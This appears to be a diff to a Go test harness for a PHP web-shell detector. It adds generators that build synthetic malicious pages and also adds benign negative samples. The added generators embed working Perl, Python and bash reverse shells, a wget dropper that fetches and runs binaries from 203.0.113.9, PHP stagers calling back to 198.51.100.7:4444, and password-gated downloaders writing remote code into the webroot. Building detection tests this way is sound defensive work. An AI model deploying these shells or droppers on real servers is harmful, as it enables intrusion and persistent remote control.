@@ -259,6 +259,133 @@ func reverse(s string) string {
 	return string(b)
 }
 
+// stagerPages: a page writes a script it carries (base64 or plain, Perl, Python, shell) to
+// a hidden or temporary file and runs it, directly or through a fallback chain of runners.
+func stagerPages(r *rand.Rand) []techVariant {
+	scripts := []string{
+		"#!/usr/bin/perl\nuse Socket;\n$h=$ARGV[0];$p=$ARGV[1];\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nif(connect(S,sockaddr_in($p,inet_aton($h)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');}\n",
+		"import socket,subprocess,os,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((sys.argv[1],int(sys.argv[2])))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])\n",
+		"#!/bin/bash\nwhile true; do bash -i >& /dev/tcp/$1/$2 0>&1; sleep 30; done\n",
+		"#!/bin/sh\ncd /tmp || exit\nfor a in x86 arm mips; do wget -q http://203.0.113.9/b.$a -O .k && chmod +x .k && ./.k; done\nrm -f \"$0\"\n",
+	}
+	paths := []string{"/tmp/.bc", "/dev/shm/.s", "/var/tmp/.cache.pl", "/tmp/.X11-lock", "/tmp/sess_" + word(r)}
+	runners := []func(cmd string) string{
+		func(cmd string) string { return "exec(" + cmd + ");" },
+		func(cmd string) string { return "echo shell_exec(" + cmd + ");" },
+		func(cmd string) string { return "@system(" + cmd + ");" },
+		func(cmd string) string { return "$h = popen(" + cmd + ", 'r'); pclose($h);" },
+		func(cmd string) string { return "$out = runit(" + cmd + ");" },
+	}
+	chain := "function runit($c) {\n  $o = '';\n  if (function_exists('exec')) { @exec($c, $o); $o = join(\"\\n\", $o); }\n  elseif (function_exists('shell_exec')) { $o = @shell_exec($c); }\n  elseif (function_exists('passthru')) { ob_start(); @passthru($c); $o = ob_get_clean(); }\n  elseif (is_resource($f = @popen($c, 'r'))) { while (!feof($f)) { $o .= fread($f, 1024); } pclose($f); }\n  return $o;\n}\n"
+	var out []techVariant
+	for n := 0; n < 30; n++ {
+		sc := scripts[n%len(scripts)]
+		file := paths[r.Intn(len(paths))]
+		pv, sv := "$"+word(r), "$"+word(r)
+		plain := r.Intn(3) == 0 && strings.HasPrefix(sc, "#!")
+		head := ""
+		lit := b64(sc)
+		if plain {
+			lit = sc
+		}
+		// the literal over several lines, joined
+		var pieces []string
+		for k := 0; k < len(lit); k += 76 {
+			pieces = append(pieces, "'"+strings.ReplaceAll(lit[k:min(k+76, len(lit))], "'", "\\'")+"'")
+		}
+		head += sv + " = " + strings.Join(pieces, " .\n  ") + ";\n"
+		content := "base64_decode(" + sv + ")"
+		if plain {
+			content = sv
+		}
+		pathExpr := "'" + file + "'"
+		if r.Intn(2) == 0 {
+			head += pv + " = '" + file + "';\n"
+			pathExpr = pv
+		}
+		var write string
+		switch r.Intn(3) {
+		case 0:
+			write = "file_put_contents(" + pathExpr + ", " + content + ");\n"
+		case 1:
+			write = "$fh = fopen(" + pathExpr + ", 'w');\nfwrite($fh, " + content + ");\nfclose($fh);\n"
+		case 2:
+			wf := word(r)
+			head = "function " + wf + "($name, $text) {\n  if ($fp = @fopen($name, 'w')) {\n    @fputs($fp, @base64_decode($text));\n    @fclose($fp);\n  }\n}\n" + head
+			if plain {
+				head = strings.Replace(head, "@base64_decode($text)", "$text", 1)
+			}
+			write = wf + "(" + pathExpr + ", " + sv + ");\n"
+		}
+		interp := map[string]string{"#!/usr/bin/perl": "perl", "import socket": "python3", "#!/bin/bash": "bash", "#!/bin/sh": "sh"}
+		prog := "sh"
+		for k, v := range interp {
+			if strings.HasPrefix(sc, k) {
+				prog = v
+			}
+		}
+		var cmd string
+		if pathExpr == pv && r.Intn(2) == 0 {
+			cmd = "\"" + prog + " " + pv + " 198.51.100.7 4444 > /dev/null 2>&1 &\""
+		} else {
+			cmd = "'" + prog + " " + file + " 198.51.100.7 4444 &'"
+		}
+		run := runners[r.Intn(len(runners))](cmd)
+		page := "<?php\n" + head + write
+		if strings.Contains(run, "runit(") {
+			page = "<?php\n" + chain + head + write
+		}
+		page += run + "\n?>\n"
+		out = append(out, techVariant{"stager", "/var/www/html/" + []string{"uploads/2024/03/", "", "wp-content/plugins/x/"}[r.Intn(3)] + word(r) + ".php", page})
+	}
+	return out
+}
+
+// downloaderPages: a page fetches a URL (request-supplied or a literal) and writes what it
+// gets into the web directory, behind a request password or in an upload directory.
+func downloaderPages(r *rand.Rand) []techVariant {
+	urls := []string{"$_GET['u']", "$_POST['url']", "$_REQUEST['src']", "'http://203.0.113.5/s.txt'", "'https://paste.example.net/raw/" + word(r) + "'"}
+	dests := []string{"'./' . basename($url)", "__DIR__ . '/" + word(r) + ".php'", "$_SERVER['DOCUMENT_ROOT'] . '/wp-" + word(r) + ".php'", "'" + word(r) + ".php'"}
+	gates := []string{
+		"if ($_REQUEST['pwd'] != '%s') exit('denied');\n",
+		"if (md5($_POST['k']) !== '%s') { die(); }\n",
+		"if (!isset($_GET['t']) || $_GET['t'] != '%s') { header('HTTP/1.0 404 Not Found'); exit; }\n",
+	}
+	var out []techVariant
+	for n := 0; n < 28; n++ {
+		url := urls[r.Intn(len(urls))]
+		dest := dests[r.Intn(len(dests))]
+		head := "$url = " + url + ";\n$dest = " + dest + ";\n"
+		if r.Intn(2) == 0 {
+			head = "$url = " + url + ";\n$dir = './';\n$dest = $dir . basename($url);\n"
+		}
+		var body string
+		switch n % 4 {
+		case 0:
+			body = "$in = fopen($url, 'rb');\nif ($in) {\n  $o = fopen($dest, 'wb');\n  while (!feof($in)) { fwrite($o, fread($in, 8192), 8192); }\n  fclose($o);\n}\n"
+		case 1:
+			body = "$data = file_get_contents($url);\nfile_put_contents($dest, $data);\necho 'ok';\n"
+		case 2:
+			body = "if (copy($url, $dest)) echo 'done';\n"
+			if strings.Contains(head, "$dir") {
+				body = "copy($url, './' . basename($url));\n"
+			}
+		case 3:
+			body = "$ch = curl_init($url);\n$fp = fopen($dest, 'w');\ncurl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_setopt($ch, CURLOPT_HEADER, 0);\ncurl_exec($ch);\ncurl_close($ch);\nfclose($fp);\n"
+		}
+		p := "/var/www/html/images/" + word(r) + ".php"
+		page := "<?php\n"
+		if r.Intn(3) == 0 {
+			p = "/var/www/html/wp-content/uploads/2023/07/" + word(r) + ".php"
+		} else {
+			page += fmt.Sprintf(gates[r.Intn(len(gates))], word(r))
+		}
+		page += "set_time_limit(0);\n" + head + body
+		out = append(out, techVariant{"downloader", p, page})
+	}
+	return out
+}
+
 // word is a random PHP identifier.
 func word(r *rand.Rand) string {
 	const first = "abcdefghijklmnopqrstuvwxyz_"
@@ -277,6 +404,8 @@ func TestHarnessTechniques2(t *testing.T) {
 	vs = append(vs, splicePages(r)...)
 	vs = append(vs, selfDecodingPages(r)...)
 	vs = append(vs, imagePages(r)...)
+	vs = append(vs, stagerPages(r)...)
+	vs = append(vs, downloaderPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -313,6 +442,9 @@ func TestTechnique2Negatives(t *testing.T) {
 		"/var/www/html/slug.php":   "<?php\n$junk = array('#', '%');\n$clean = str_replace($junk, '', 'my#page%title');\n$f = 'ucwords';\n$t = $f(str_replace('_', ' ', $clean));\n$cb = function ($s) { return trim($s); };\necho $cb($t);\n",
 		"/var/www/html/source.php": "<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$sum = md5(file_get_contents(__FILE__));\n$cfg = base64_decode(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__));\necho htmlspecialchars($cfg), $sum;\n__halt_compiler();eyJhIjoxfQ==",
 		"/var/www/html/stub.php":   "<?php\nPhar::mapPhar('app.phar');\n$h = fopen(__FILE__, 'rb');\nfseek($h, __COMPILER_HALT_OFFSET__);\n$meta = json_decode(base64_decode(stream_get_contents($h)), true);\nrequire 'phar://app.phar/index.php';\n__halt_compiler();e30=",
+		"/var/www/html/report.php": "<?php\n$csv = \"id,name,total\\n1,alpha,10\\n2,beta,20\\n3,gamma,30\\n4,delta,40\\n5,epsilon,50\\n\";\nfile_put_contents('/tmp/report.csv', $csv);\nexec('gzip -f /tmp/report.csv');\n",
+		"/var/www/html/fetch.php":  "<?php\n$feed = file_get_contents('https://news.example.org/rss.xml');\nfile_put_contents('/var/cache/app/rss.xml', $feed);\n$img = file_get_contents($_GET['img']);\nheader('Content-Type: image/png');\necho $img;\n",
+		"/var/www/html/backup.php": "<?php\n$sh = \"#!/bin/sh\\ntar czf /var/backups/site.tgz /var/www/html\\n\";\nfile_put_contents('/var/backups/run.sh', $sh);\necho 'saved';\n",
 		"/var/www/html/view.php":   "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
 	}
 	for p, page := range pages {
